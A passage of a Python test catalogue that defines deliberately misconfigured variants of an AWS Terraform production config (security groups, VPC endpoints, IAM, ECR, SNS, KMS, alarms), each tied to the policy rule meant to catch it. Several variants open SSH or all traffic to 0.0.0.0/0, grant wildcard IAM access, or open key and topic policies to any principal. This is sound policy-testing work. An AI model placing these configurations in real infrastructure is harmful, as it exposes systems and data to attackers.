"""A catalogue of single-violation mutants of the clean prod render, each with the rule
that must catch it. Applied to a copy of out/prod by tests/policies/test_mutants.py.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

SG = "platform/security_groups.tf"
EP = "platform/vpc_endpoints.tf"
ALARMS = "platform/alarms.tf"
CIDR = "10.30.0.0/16"


@dataclass(frozen=True)
class Edit:
    """One change to one rendered file (or a whole root) of a copy of out/prod."""

    file: str  # relative to out/prod
    change: Callable[[Path], None]

    def __call__(self, root: Path) -> None:
        self.change(root)


@dataclass(frozen=True)
class Mutant:
    name: str
    rule: str  # the rule that must report it
    apply: Edit
    # The address the rule's violation must name: the mutated resource ("ROOT:TYPE.NAME"), or,
    # where the mutant deletes it, its root ("platform", "teams/rc"), and the message must then
    # mention what is missing.
    target: str
    mentions: str | None = None
    deleted_type: str | None = None  # the type of the deleted resource, where target is a root

    @property
    def resource_type(self) -> str | None:
        if self.deleted_type:
            return self.deleted_type
        local = self.target.split(":", 1)[1] if ":" in self.target else ""
        return local.split(".", 1)[0] if "." in local else None


def _edit(path: Path, old: str, new: str) -> None:
    text = path.read_text()
    assert old in text, f"mutant anchor not found in {path}: {old!r}"
    path.write_text(text.replace(old, new, 1))


def _block(text: str, header: str) -> str:
    start = text.index(header)
    end = text.index("\n}\n", start) + 3
    return text[start:end]


def replace(file: str, old: str, new: str) -> Edit:
    return Edit(file, lambda root: _edit(root / file, old, new))


def in_block(file: str, header: str, old: str, new: str) -> Edit:
    def apply(root: Path) -> None:
        block = _block((root / file).read_text(), header)
        assert old in block, f"{old!r} not in {header}"
        _edit(root / file, block, block.replace(old, new, 1))
    return Edit(file, apply)


def remove_block(file: str, header: str) -> Edit:
    return Edit(file, lambda root: _edit(root / file, _block((root / file).read_text(), header), ""))


def remove_statement(file: str, header: str, sid: str) -> Edit:
    """Delete one statement (its comment line, then `{ Sid = ... }`) from a policy in a block."""
    def apply(root: Path) -> None:
        block = _block((root / file).read_text(), header)
        found = re.search(r'\n      # [^\n]*\n      \{\n        Sid +=\s*"' + sid + r'".*?\n      \},', block, re.S)
        assert found, f"statement {sid} not in {header}"
        _edit(root / file, block, block.replace(found.group(0), "", 1))
    return Edit(file, apply)


def append(file: str, text: str) -> Edit:
    def apply(root: Path) -> None:
        path = root / file
        path.write_text(path.read_text() + "\n" + text)
    return Edit(file, apply)


def new_file(file: str, text: str) -> Edit:
    """A file tfgen never wrote, put into a root: terraform reads it with the rest."""
    return Edit(file, lambda root: (root / file).write_text(text))


def remove_root(root_name: str) -> Edit:
    def apply(root: Path) -> None:
        for path in (root / root_name).glob("*"):
            path.unlink()
        (root / root_name).rmdir()
    return Edit(root_name, apply)


def ingress(name: str, group: str, body: str) -> str:
    return (f'resource "aws_vpc_security_group_ingress_rule" "{name}" {{\n'
            f"  security_group_id = aws_security_group.{group}.id\n  description = \"mutant\"\n{body}}}\n")


def egress(name: str, group: str, body: str) -> str:
    return ingress(name, group, body).replace("_ingress_rule", "_egress_rule", 1)


def tcp(low: int, high: int, cidr: str) -> str:
    return f'  ip_protocol = "tcp"\n  from_port = {low}\n  to_port = {high}\n  cidr_ipv4 = "{cidr}"\n'


RC_IAM = "teams/rc/iam.tf"
FRAUD_POLICY = 'resource "aws_iam_role_policy" "fraud_detection"'
AML_RUNTIME = 'resource "aws_iam_role_policy" "anti_money_laundering_runtime"'
PROD_VPC = "arn:aws:ec2:eu-west-1:333333333333:vpc/vpc-0c1b2c3d4e5f60001"
MPG_FRAUD = "arn:aws:sagemaker:eu-west-1:333333333333:model-package-group/rc-fraud-detection"
FRAUD_TRAINING_LIFECYCLE = 'resource "aws_ecr_lifecycle_policy" "fraud_detection_training"'
RC_ENDPOINTS = "teams/rc/endpoints.tf"
FRAUD_5XX = 'resource "aws_cloudwatch_metric_alarm" "fraud_scoring_5xx_rate"'
FRAUD_P99 = 'resource "aws_cloudwatch_metric_alarm" "fraud_scoring_p99_latency"'
TOPIC = "arn:aws:sns:eu-west-1:333333333333:acme-sm-alarms"
MPG_AML = "arn:aws:sagemaker:eu-west-1:333333333333:model-package-group/rc-anti-money-laundering"

WORLD_OPEN_JSON = """{
  "resource": {
    "aws_vpc_security_group_ingress_rule": {
      "training_from_anywhere": {
        "security_group_id": "${aws_security_group.training.id}",
        "ip_protocol": "-1",
        "cidr_ipv4": "0.0.0.0/0"
      }
    }
  }
}
"""

MUTANTS: list[Mutant] = [
    Mutant("22 open to the world on training", "TFG-SG-003",
           append(SG, ingress("training_ssh", "training", tcp(22, 22, "0.0.0.0/0"))),
           "platform:aws_vpc_security_group_ingress_rule.training_ssh"),
    Mutant("8080 on training", "TFG-SG-002",
           append(SG, ingress("training_8080", "training", tcp(8080, 8080, CIDR))),
           "platform:aws_vpc_security_group_ingress_rule.training_8080"),
    Mutant("a port range over 8080 on processing", "TFG-SG-002",
           append(SG, ingress("processing_range", "processing", tcp(8000, 9000, CIDR))),
           "platform:aws_vpc_security_group_ingress_rule.processing_range"),
    Mutant("inference 8080 from 0.0.0.0/0", "TFG-SG-002",
           in_block(SG, '"inference_container_from_vpc"', f'"{CIDR}"', '"0.0.0.0/0"'),
           "platform:aws_vpc_security_group_ingress_rule.inference_container_from_vpc"),
    Mutant("self-ingress removed on training", "TFG-SG-001",
           remove_block(SG, 'resource "aws_vpc_security_group_ingress_rule" "training_all_from_self"'),
           "platform:aws_security_group.training",
           mentions="ingress all traffic from itself", deleted_type="aws_vpc_security_group_ingress_rule"),
    Mutant("443 from the VPC CIDR removed on processing", "TFG-SG-001",
           remove_block(SG, 'resource "aws_vpc_security_group_ingress_rule" "processing_https_from_vpc"'),
           "platform:aws_security_group.processing",
           mentions="ingress tcp/443 from 10.30.0.0/16", deleted_type="aws_vpc_security_group_ingress_rule"),
    Mutant("443 from a wider CIDR on inference", "TFG-SG-001",
           in_block(SG, '"inference_https_from_vpc"', f'"{CIDR}"', '"10.0.0.0/8"'),
           "platform:aws_vpc_security_group_ingress_rule.inference_https_from_vpc"),
    Mutant("an extra egress rule (80 to the world) on training", "TFG-SG-003",
           append(SG, egress("training_http_out", "training", tcp(80, 80, "0.0.0.0/0"))),
           "platform:aws_vpc_security_group_egress_rule.training_http_out"),
    Mutant("all traffic out to the world on inference", "TFG-SG-003",
           append(SG, egress("inference_all_out", "inference", '  ip_protocol = "-1"\n  cidr_ipv4 = "0.0.0.0/0"\n')),
           "platform:aws_vpc_security_group_egress_rule.inference_all_out"),
    Mutant("ingress from ::/0 on studio", "TFG-SG-003",
           append(SG, ingress("studio_v6", "studio", '  ip_protocol = "tcp"\n  from_port = 443\n  to_port = 443\n'
                                                     '  cidr_ipv6 = "::/0"\n')),
                                                     "platform:aws_vpc_security_group_ingress_rule.studio_v6"),
    Mutant("the vpc-endpoints group gains an egress rule", "TFG-SG-001",
           append(SG, egress("vpc_endpoints_out", "vpc_endpoints", tcp(443, 443, CIDR))),
           "platform:aws_vpc_security_group_egress_rule.vpc_endpoints_out"),
    Mutant("an inline ingress block", "TFG-SG-004",
           in_block(SG, 'resource "aws_security_group" "training"', "\n  tags = {",
                    f'\n  ingress {{\n    from_port = 443\n    to_port = 443\n    protocol = "tcp"\n'
                    f'    cidr_blocks = ["{CIDR}"]\n  }}\n\n  tags = {{'), "platform:aws_security_group.training"),
    Mutant("a legacy aws_security_group_rule", "TFG-SG-004",
           append(SG, 'resource "aws_security_group_rule" "legacy" {\n  type = "ingress"\n'
                      '  security_group_id = aws_security_group.inference.id\n  protocol = "tcp"\n'
                      f'  from_port = 443\n  to_port = 443\n  cidr_blocks = ["{CIDR}"]\n}}\n'),
                      "platform:aws_security_group_rule.legacy"),
    Mutant("a dynamic block", "TFG-SG-004",
           in_block(SG, 'resource "aws_security_group" "processing"', "\n  tags = {",
                    '\n  dynamic "egress" {\n    for_each = [443]\n    content {\n      from_port = egress.value\n'
                    '      to_port = egress.value\n      protocol = "tcp"\n      cidr_blocks = ["0.0.0.0/0"]\n'
                    '    }\n  }\n\n  tags = {'), "platform:aws_security_group.processing"),
    Mutant("the S3 gateway endpoint deleted", "TFG-EP-001",
           remove_block(EP, 'resource "aws_vpc_endpoint" "s3"'),
           "platform", mentions="com.amazonaws.eu-west-1.s3", deleted_type="aws_vpc_endpoint"),
    Mutant("the sts interface endpoint deleted", "TFG-EP-001",
           remove_block(EP, 'resource "aws_vpc_endpoint" "sts"'),
           "platform", mentions="com.amazonaws.eu-west-1.sts", deleted_type="aws_vpc_endpoint"),
    Mutant("private DNS off on sagemaker.api", "TFG-EP-001",
           in_block(EP, 'resource "aws_vpc_endpoint" "sagemaker_api"', "private_dns_enabled = true",
                    "private_dns_enabled = false"), "platform:aws_vpc_endpoint.sagemaker_api"),
    Mutant("sagemaker.runtime in the training group", "TFG-EP-001",
           in_block(EP, 'resource "aws_vpc_endpoint" "sagemaker_runtime"', "aws_security_group.vpc_endpoints.id",
                    "aws_security_group.training.id"), "platform:aws_vpc_endpoint.sagemaker_runtime"),
    Mutant("the S3 gateway on one route table of three", "TFG-EP-001",
           in_block(EP, 'resource "aws_vpc_endpoint" "s3"', '    "rtb-0c1b2c3d4e5f60022",\n', ""),
           "platform:aws_vpc_endpoint.s3"),
    Mutant("an interface endpoint missing a zone", "TFG-EP-002",
           in_block(EP, 'resource "aws_vpc_endpoint" "logs"', '    "subnet-0c1b2c3d4e5f60013",\n', ""),
           "platform:aws_vpc_endpoint.logs", mentions="no subnet in eu-west-1c"),
    Mutant("two subnets of one zone on ecr.dkr", "TFG-EP-002",
           in_block(EP, 'resource "aws_vpc_endpoint" "ecr_dkr"', '"subnet-0c1b2c3d4e5f60013"',
                    '"subnet-0c1b2c3d4e5f60012"'),
           "platform:aws_vpc_endpoint.ecr_dkr", mentions="2 subnets in eu-west-1b"),
    Mutant("sts in a subnet the YAML does not name", "TFG-EP-001",
           in_block(EP, 'resource "aws_vpc_endpoint" "sts"', '"subnet-0c1b2c3d4e5f60013"',
                    '"subnet-0c1b2c3d4e5f60099"'),
           "platform:aws_vpc_endpoint.sts", mentions="subnet-0c1b2c3d4e5f60099"),
    Mutant("an endpoint the YAML does not ask for", "TFG-EP-001",
           append(EP, 'resource "aws_vpc_endpoint" "ssm" {\n  vpc_id = "vpc-0c1b2c3d4e5f60001"\n'
                      '  service_name = "com.amazonaws.eu-west-1.ssm"\n  vpc_endpoint_type = "Interface"\n'
                      '  private_dns_enabled = true\n}\n'), "platform:aws_vpc_endpoint.ssm"),
    Mutant("a renamed group", "TFG-NAME-001", replace(SG, '"acme-sm-training"', '"acme-sm-train"'),
    "platform:aws_security_group.training"),
    Mutant("upper case in a model package group name", "TFG-NAME-003",
           replace("teams/rc/model_registry.tf", '= "rc-fraud-detection"', '= "rc-Fraud-detection"'),
           "teams/rc:aws_sagemaker_model_package_group.fraud_detection"),
    Mutant("a model package group removed", "TFG-NAME-003",
           remove_block("teams/algo/model_registry.tf",
                        'resource "aws_sagemaker_model_package_group" "recommendation_engine"'),
                        "teams/algo",
                        mentions="algo-recommendation-engine", deleted_type="aws_sagemaker_model_package_group"),
    Mutant("a project repository renamed", "TFG-NAME-002",
           replace("teams/rc/ecr.tf", 'name                 = "acme-sm-rc-fraud-detection/training"',
                   'name                 = "acme-sm-rc-fraud/training"'),
                   "teams/rc:aws_ecr_repository.fraud_detection_training"),
    Mutant("a role name over 64 characters", "TFG-NAME-004",
           replace(RC_IAM, '"acme-sm-rc-anti-money-laundering-execution"',
                   '"acme-sm-rc-anti-money-laundering-execution-role-for-sagemaker-jobs"'),
                   "teams/rc:aws_iam_role.anti_money_laundering"),
    # AWS's [\w+=,.@-] is ASCII: a letter with an accent passes a Unicode \w and fails at apply.
    Mutant("a role name with an accented letter", "TFG-NAME-004",
           replace(RC_IAM, '"acme-sm-rc-anti-money-laundering-execution"', '"acme-sm-rc-anti-money-laundéring-execution"'),
           "teams/rc:aws_iam_role.anti_money_laundering"),
    Mutant("a role name ending in a newline", "TFG-NAME-004",
           replace(RC_IAM, '"acme-sm-rc-anti-money-laundering-execution"', '"acme-sm-rc-anti-money-laundering-execution\\n"'),
           "teams/rc:aws_iam_role.anti_money_laundering"),
    # IAM holds one role's inline policies to 10,240 characters in all: a statement listing
    # 240 training-data prefixes takes the team role's past it (apply would fail part-way).
    Mutant("a workload policy past the role's inline-policy quota", "TFG-IAM-006",
           in_block(RC_IAM, FRAUD_POLICY, "      # AWS offers no resource type for ListModelPackageGroups",
                    '      {\n        Sid      = "AllowReadTrainingData"\n        Effect   = "Allow"\n'
                    '        Action   = ["s3:GetObject"]\n        Resource = [\n'
                    + "".join(f'          "arn:aws:s3:::acme-fd-data/batch-{n:03d}/*",\n' for n in range(240))
                    + "        ]\n      },\n      # AWS offers no resource type for ListModelPackageGroups"),
           "teams/rc:aws_iam_role_policy.fraud_detection", mentions="acme-sagemaker-rc"),
    Mutant("a lifecycle policy that keeps 100", "TFG-ECR-001",
           replace("teams/algo/ecr.tf", "countNumber = 10 }", "countNumber = 100 }"),
           "teams/algo:aws_ecr_lifecycle_policy.recommendation_engine_preprocessing"),
    # The policies live in locals, one per number of images kept: an edit there changes every
    # repository that refers to it (the first local of teams/rc is anti-money-laundering's).
    Mutant("the build rule evaluated first", "TFG-ECR-001",
           replace("teams/rc/ecr.tf", "rulePriority = 4", "rulePriority = 0"),
           "teams/rc:aws_ecr_lifecycle_policy.anti_money_laundering_training"),
    # ECR ranks every image under a tagStatus any rule, releases and untagged ones included:
    # as the last rule it would expire builds that "the newest N builds" promises to keep.
    Mutant("the build rule turned into a catch-all on any tag", "TFG-ECR-001",
           replace("teams/algo/ecr.tf", 'tagStatus = "tagged", tagPrefixList = ["build-"]', 'tagStatus = "any"'),
           "teams/algo:aws_ecr_lifecycle_policy.recommendation_engine_preprocessing"),
    Mutant("untagged images kept ten years", "TFG-ECR-001",
           replace("platform/ecr.tf", "countNumber = 7 }", "countNumber = 3650 }"),
           "platform:aws_ecr_lifecycle_policy.shared_base_xgboost"),
    Mutant("a release prefix the YAML does not name", "TFG-ECR-001",
           replace("teams/rc/ecr.tf", 'tagPrefixList = ["v"]', 'tagPrefixList = ["rc"]'),
           "teams/rc:aws_ecr_lifecycle_policy.anti_money_laundering_inference"),
    Mutant("a repository given another project's policy", "TFG-ECR-001",
           in_block("teams/rc/ecr.tf", FRAUD_TRAINING_LIFECYCLE, "local.image_lifecycle_keep_30",
                    "local.image_lifecycle_keep_10"),
           "teams/rc:aws_ecr_lifecycle_policy.fraud_detection_training"),
    Mutant("a lifecycle policy removed", "TFG-ECR-001",
           remove_block("platform/ecr.tf", 'resource "aws_ecr_lifecycle_policy" "shared_base_pytorch"'),
           "platform:aws_ecr_repository.shared_base_pytorch",
           mentions="0 lifecycle policies", deleted_type="aws_ecr_lifecycle_policy"),
    Mutant("MUTABLE tags", "TFG-ECR-002",
           replace("teams/rc/ecr.tf", '"IMMUTABLE"', '"MUTABLE"'),
           "teams/rc:aws_ecr_repository.anti_money_laundering_preprocessing"),
    Mutant("scan on push off", "TFG-ECR-003", replace("platform/ecr.tf", "scan_on_push = true", "scan_on_push = false"),
    "platform:aws_ecr_repository.shared_base_sklearn"),
    Mutant("AES256 instead of KMS", "TFG-ECR-004",
           replace("teams/algo/ecr.tf", 'encryption_type = "KMS"', 'encryption_type = "AES256"'),
           "teams/algo:aws_ecr_repository.recommendation_engine_preprocessing"),
    Mutant("force_delete = true", "TFG-ECR-005", replace("teams/rc/ecr.tf", "force_delete = false", "force_delete = true"),
    "teams/rc:aws_ecr_repository.anti_money_laundering_preprocessing"),
    Mutant("training log retention 15", "TFG-LOG-001",
           in_block("platform/logs.tf", '"training_jobs"', "retention_in_days = 90", "retention_in_days = 15"),
           "platform:aws_cloudwatch_log_group.training_jobs"),
    Mutant("endpoint log retention 30 instead of 14", "TFG-LOG-001",
           replace("teams/rc/endpoints.tf", "retention_in_days = 14", "retention_in_days = 30"),
           "teams/rc:aws_cloudwatch_log_group.fraud_scoring"),
    Mutant('IAM Resource = "*" on the registry statement', "TFG-IAM-003",
           in_block(RC_IAM, FRAUD_POLICY, f'"{MPG_FRAUD}",', '"*",'), "teams/rc:aws_iam_role_policy.fraud_detection"),
    Mutant("an extra IAM action", "TFG-IAM-001",
           in_block(RC_IAM, FRAUD_POLICY, '"sagemaker:DeleteModelPackage",',
                    '"sagemaker:DeleteModelPackage",\n          "sagemaker:DeleteModelPackageGroup",'),
                    "teams/rc:aws_iam_role_policy.fraud_detection"),
    Mutant("another project's ARN", "TFG-IAM-001",
           in_block(RC_IAM, FRAUD_POLICY, f'"{MPG_FRAUD}",', f'"{MPG_FRAUD}",\n          "{MPG_AML}",'),
           "teams/rc:aws_iam_role_policy.fraud_detection"),
    Mutant("a service wildcard action", "TFG-IAM-002",
           in_block(RC_IAM, FRAUD_POLICY, '"ecr:BatchGetImage",', '"ecr:BatchGetImage",\n          "s3:*",'),
           "teams/rc:aws_iam_role_policy.fraud_detection"),
    Mutant("the plan's statement taken literally: ListModelPackageGroups on the group's ARN", "TFG-IAM-004",
           in_block(RC_IAM, FRAUD_POLICY, '"sagemaker:ListModelPackages",',
                    '"sagemaker:ListModelPackages",\n          "sagemaker:ListModelPackageGroups",'),
                    "teams/rc:aws_iam_role_policy.fraud_detection"),
    Mutant("ListModelPackageGroups no longer granted on its own", "TFG-IAM-001",
           in_block(RC_IAM, FRAUD_POLICY, 'Action   = ["sagemaker:ListModelPackageGroups"]',
                    'Action   = ["sagemaker:ListModels"]'), "teams/rc:aws_iam_role_policy.fraud_detection"),
    Mutant("an action AWS does not have", "TFG-IAM-004",
           in_block(RC_IAM, FRAUD_POLICY, '"ecr:BatchGetImage",', '"ecr:BatchGetImages",'),
           "teams/rc:aws_iam_role_policy.fraud_detection"),
    Mutant("a condition of the wrong type", "TFG-IAM-004",
           in_block(RC_IAM, AML_RUNTIME, 'StringLike = { "cloudwatch:namespace"', 'NumericLessThan = { "cloudwatch:namespace"'),
           "teams/rc:aws_iam_role_policy.anti_money_laundering_runtime"),
    Mutant("object reads on * in the describe statement", "TFG-IAM-003",
           in_block(RC_IAM, AML_RUNTIME, '"ec2:DescribeVpcs",', '"ec2:DescribeVpcs",\n          "s3:GetObject",'),
           "teams/rc:aws_iam_role_policy.anti_money_laundering_runtime"),
    Mutant("network interfaces created without the VPC condition", "TFG-IAM-005",
           in_block(RC_IAM, AML_RUNTIME, f'        Condition = {{\n          ArnEqualsIfExists = {{ "ec2:Vpc" = "{PROD_VPC}" }}\n'
                                         '        }\n      },\n      # Tags', '      },\n      # Tags'),
           "teams/rc:aws_iam_role_policy.anti_money_laundering_runtime"),
    Mutant("network interfaces deleted in another VPC", "TFG-IAM-005",
           in_block(RC_IAM, AML_RUNTIME, f'Resource = ["arn:aws:ec2:eu-west-1:333333333333:network-interface/*"]\n'
                                         f'        Condition = {{\n          ArnEquals = {{ "ec2:Vpc" = "{PROD_VPC}"',
                    f'Resource = ["arn:aws:ec2:eu-west-1:333333333333:network-interface/*"]\n'
                    f'        Condition = {{\n          ArnEquals = {{ "ec2:Vpc" = "{PROD_VPC[:-1]}9"'),
           "teams/rc:aws_iam_role_policy.anti_money_laundering_runtime"),
    # The shape AWS refuses every job in VPC mode: ec2:Vpc is never supplied for the new interface.
    Mutant("network interfaces created under ArnEquals ec2:Vpc", "TFG-IAM-007",
           in_block(RC_IAM, AML_RUNTIME, 'ArnEqualsIfExists = { "ec2:Vpc"', 'ArnEquals = { "ec2:Vpc"'),
           "teams/rc:aws_iam_role_policy.anti_money_laundering_runtime", mentions="network-interface"),
    Mutant("a job's network interface refused (ArnEquals ec2:Vpc)", "TFG-IAM-009",
           in_block(RC_IAM, AML_RUNTIME, 'ArnEqualsIfExists = { "ec2:Vpc"', 'ArnEquals = { "ec2:Vpc"'),
           "teams/rc:aws_iam_role_policy.anti_money_laundering_runtime", mentions="ec2:CreateNetworkInterface on "
           "arn:aws:ec2:eu-west-1:333333333333:network-interface/* is implicitly denied"),
    Mutant("the registry's tags dropped", "TFG-IAM-008",
           remove_statement(RC_IAM, FRAUD_POLICY, "AllowTagModelRegistry"),
           "teams/rc:aws_iam_role_policy.fraud_detection", mentions="sagemaker:AddTags"),
    Mutant("a version registered with tags refused", "TFG-IAM-009",
           remove_statement(RC_IAM, FRAUD_POLICY, "AllowTagModelRegistry"),
           "teams/rc:aws_iam_role_policy.fraud_detection",
           mentions="sagemaker:AddTags on arn:aws:sagemaker:eu-west-1:333333333333:model-package/rc-fraud-detection/1"),
    Mutant("the network interfaces' tags dropped", "TFG-IAM-008",
           remove_statement(RC_IAM, AML_RUNTIME, "TagJobNetworkInterfacesOnCreate"),
           "teams/rc:aws_iam_role_policy.anti_money_laundering_runtime", mentions="ec2:CreateTags"),
    Mutant("the registry scoped by a prefix", "TFG-IAM-009",
           in_block(RC_IAM, FRAUD_POLICY, f'"{MPG_FRAUD}",', f'"{MPG_FRAUD}*",'),
           "teams/rc:aws_iam_role_policy.fraud_detection", mentions="model-package-group/rc-fraud-detection-x"),
    Mutant("tags on every project's model versions", "TFG-IAM-009",
           in_block(RC_IAM, FRAUD_POLICY, '"arn:aws:sagemaker:eu-west-1:333333333333:model-package/rc-fraud-detection/*",\n'
                                          '        ]\n      },\n      # Pull',
                    '"arn:aws:sagemaker:eu-west-1:333333333333:model-package/*",\n        ]\n      },\n      # Pull'),
           "teams/rc:aws_iam_role_policy.fraud_detection", mentions="sagemaker:AddTags on "
           "arn:aws:sagemaker:eu-west-1:333333333333:model-package/rc-anti-money-laundering/1 is allowed"),
    Mutant("network interfaces in any subnet of the VPC", "TFG-IAM-009",
           in_block(RC_IAM, AML_RUNTIME, '"arn:aws:ec2:eu-west-1:333333333333:subnet/subnet-0c1b2c3d4e5f60011",',
                    '"arn:aws:ec2:eu-west-1:333333333333:subnet/*",'),
           "teams/rc:aws_iam_role_policy.anti_money_laundering_runtime",
           mentions="subnet/subnet-0eeeeeeeeeeeeeee0 is allowed"),
    Mutant("a data bucket granted by a prefix", "TFG-IAM-009",
           in_block(RC_IAM, AML_RUNTIME, '"arn:aws:s3:::acme-ml-rc-aml/*"', '"arn:aws:s3:::acme-ml-rc-aml*"'),
           "teams/rc:aws_iam_role_policy.anti_money_laundering_runtime", mentions="acme-ml-rc-aml-x"),
    Mutant("an explicit deny of the project's own images", "TFG-IAM-009",
           in_block(RC_IAM, FRAUD_POLICY, '    Statement = [\n',
                    '    Statement = [\n      {\n        Sid      = "DenyPulls"\n        Effect   = "Deny"\n'
                    '        Action   = ["ecr:BatchGetImage"]\n        Resource = ["*"]\n      },\n'),
           "teams/rc:aws_iam_role_policy.fraud_detection", mentions="explicitly denied by rc-fraud-detection-workload/DenyPulls"),
    Mutant("cloudwatch.amazonaws.com dropped from the alarm key's policy", "TFG-POL-002",
           in_block(ALARMS, 'resource "aws_kms_key" "alarms"',
                    'Principal = { Service = ["cloudwatch.amazonaws.com", "events.amazonaws.com"] }',
                    'Principal = { Service = "events.amazonaws.com" }'), "platform:aws_kms_key.alarms"),
    Mutant("the topic policy opened to * with sns:*", "TFG-POL-001",
           in_block(ALARMS, 'resource "aws_sns_topic_policy" "alarms"',
                    'Principal = { Service = ["cloudwatch.amazonaws.com", "events.amazonaws.com"] }\n'
                    '        Action    = ["sns:Publish"]', 'Principal = "*"\n        Action    = ["sns:*"]'),
                    "platform:aws_sns_topic_policy.alarms"),
    Mutant("the key policy grants decrypt to *", "TFG-POL-001",
           in_block(ALARMS, 'resource "aws_kms_key" "alarms"',
                    'Principal = { Service = ["cloudwatch.amazonaws.com", "events.amazonaws.com"] }',
                    'Principal = { AWS = "*" }'), "platform:aws_kms_key.alarms"),
    Mutant("the topic not encrypted", "TFG-POL-002",
           in_block(ALARMS, 'resource "aws_sns_topic" "alarms"', "  kms_master_key_id = aws_kms_key.alarms.arn\n", ""),
           "platform:aws_sns_topic.alarms"),
    Mutant("the topic policy without the account condition", "TFG-POL-002",
           in_block(ALARMS, 'resource "aws_sns_topic_policy" "alarms"',
                    '        Condition = {\n          StringEquals = { "aws:SourceAccount" = "333333333333" }\n'
                    '        }\n', ""), "platform:aws_sns_topic_policy.alarms"),
    Mutant("a policy built from a data source", "TFG-POL-004",
           append(RC_IAM, 'resource "aws_iam_role_policy" "extra" {\n  role   = "acme-sagemaker-rc"\n'
                          '  policy = data.aws_iam_policy_document.extra.json\n}\n'),
           "teams/rc:aws_iam_role_policy.extra"),
    Mutant("a created role that trusts EC2", "TFG-POL-003",
           in_block(RC_IAM, 'resource "aws_iam_role" "anti_money_laundering"', '"sagemaker.amazonaws.com"',
                    '"ec2.amazonaws.com"'), "teams/rc:aws_iam_role.anti_money_laundering"),
    Mutant("a created role trusted from any account", "TFG-POL-003",
           in_block(RC_IAM, 'resource "aws_iam_role" "anti_money_laundering"',
                    '        Condition = {\n          StringEquals = { "aws:SourceAccount" = "333333333333" }\n'
                    '        }\n', ""), "teams/rc:aws_iam_role.anti_money_laundering"),
    Mutant("the 5XX-rate alarm's threshold raised tenfold", "TFG-MON-001",
           in_block(RC_ENDPOINTS, FRAUD_5XX, "threshold           = 0.05", "threshold           = 0.5"),
           "teams/rc:aws_cloudwatch_metric_alarm.fraud_scoring_5xx_rate"),
    Mutant("the latency alarm on p50 instead of p99", "TFG-MON-001",
           in_block(RC_ENDPOINTS, FRAUD_P99, '"p99"', '"p50"'),
           "teams/rc:aws_cloudwatch_metric_alarm.fraud_scoring_p99_latency"),
    Mutant("an alarm with no alarm_actions", "TFG-MON-001",
           in_block(RC_ENDPOINTS, FRAUD_5XX, f'  alarm_actions       = ["{TOPIC}"]\n', ""),
           "teams/rc:aws_cloudwatch_metric_alarm.fraud_scoring_5xx_rate"),
    Mutant("an alarm on a variant the endpoint does not have", "TFG-MON-001",
           in_block(RC_ENDPOINTS, FRAUD_P99, '"AllTraffic"', '"Canary"'),
           "teams/rc:aws_cloudwatch_metric_alarm.fraud_scoring_p99_latency"),
    Mutant("an alarm over one period instead of three", "TFG-MON-001",
           in_block(RC_ENDPOINTS, FRAUD_P99, "evaluation_periods                    = 3",
                    "evaluation_periods                    = 1"),
           "teams/rc:aws_cloudwatch_metric_alarm.fraud_scoring_p99_latency"),
    Mutant("the 5XX rate without the minimum of invocations", "TFG-MON-001",
           in_block(RC_ENDPOINTS, FRAUD_5XX, "IF(invocations >= 20, errors / invocations, 0)", "errors / invocations"),
           "teams/rc:aws_cloudwatch_metric_alarm.fraud_scoring_5xx_rate"),
    Mutant("5XX errors averaged instead of summed", "TFG-MON-001",
           in_block(RC_ENDPOINTS, FRAUD_5XX, 'stat        = "Sum"', 'stat        = "Average"'),
           "teams/rc:aws_cloudwatch_metric_alarm.fraud_scoring_5xx_rate"),
    Mutant("the p99 evaluated on too few samples", "TFG-MON-001",
           in_block(RC_ENDPOINTS, FRAUD_P99, '"ignore"', '"evaluate"'),
           "teams/rc:aws_cloudwatch_metric_alarm.fraud_scoring_p99_latency"),
    Mutant("an alarm on 1 of 3 periods", "TFG-MON-001",
           in_block(RC_ENDPOINTS, FRAUD_P99, "datapoints_to_alarm                   = 2", "datapoints_to_alarm                   = 1"),
           "teams/rc:aws_cloudwatch_metric_alarm.fraud_scoring_p99_latency"),
    Mutant("the no-invocations alarm treating silence as fine", "TFG-MON-001",
           in_block(RC_ENDPOINTS, 'resource "aws_cloudwatch_metric_alarm" "fraud_scoring_no_invocations"',
                    '"breaching"', '"notBreaching"'),
           "teams/rc:aws_cloudwatch_metric_alarm.fraud_scoring_no_invocations"),
    Mutant("an endpoint's log group removed", "TFG-MON-001",
           remove_block(RC_ENDPOINTS, 'resource "aws_cloudwatch_log_group" "fraud_scoring"'), "teams/rc",
           mentions="/aws/sagemaker/Endpoints/fraud-scoring", deleted_type="aws_cloudwatch_log_group"),
    Mutant("the failed-training-job rule matching Completed", "TFG-MON-002",
           in_block(ALARMS, 'resource "aws_cloudwatch_event_rule" "training_job_failed"', '["Failed"]', '["Completed"]'),
           "platform:aws_cloudwatch_event_rule.training_job_failed"),
    Mutant("the failed-processing-job rule's target removed", "TFG-MON-002",
           remove_block(ALARMS, 'resource "aws_cloudwatch_event_target" "processing_job_failed"'),
           "platform:aws_cloudwatch_event_rule.processing_job_failed", deleted_type="aws_cloudwatch_event_target"),
    Mutant("failed-job events sent to another topic", "TFG-MON-002",
           in_block(ALARMS, 'resource "aws_cloudwatch_event_target" "training_job_failed"', "aws_sns_topic.alarms.arn",
                    '"arn:aws:sns:eu-west-1:333333333333:elsewhere"'),
           "platform:aws_cloudwatch_event_target.training_job_failed"),
    Mutant("an alarm subscriber the YAML does not list", "TFG-MON-003",
           append(ALARMS, 'resource "aws_sns_topic_subscription" "alarms_someone" {\n'
                          '  topic_arn = aws_sns_topic.alarms.arn\n  protocol  = "email"\n'
                          '  endpoint  = "someone@elsewhere.example"\n}\n'),
           "platform:aws_sns_topic_subscription.alarms_someone"),
    Mutant("an alarm subscriber removed", "TFG-MON-003",
           remove_block(ALARMS, 'resource "aws_sns_topic_subscription" "alarms_oncall_at_acme_example"'), "platform",
           mentions="oncall@acme.example", deleted_type="aws_sns_topic_subscription"),
    Mutant("the key's alias on another key", "TFG-POL-002",
           replace(ALARMS, "target_key_id = aws_kms_key.alarms.key_id",
                   'target_key_id = "1234abcd-12ab-34cd-56ef-1234567890ab"'), "platform:aws_kms_alias.alarms"),
    Mutant("prevent_destroy removed from a model package group in prod", "TFG-PROT-001",
           in_block("teams/rc/model_registry.tf", '"fraud_detection"', "prevent_destroy = true", "prevent_destroy = false"),
           "teams/rc:aws_sagemaker_model_package_group.fraud_detection"),
    Mutant("prevent_destroy removed from a log group in prod", "TFG-PROT-001",
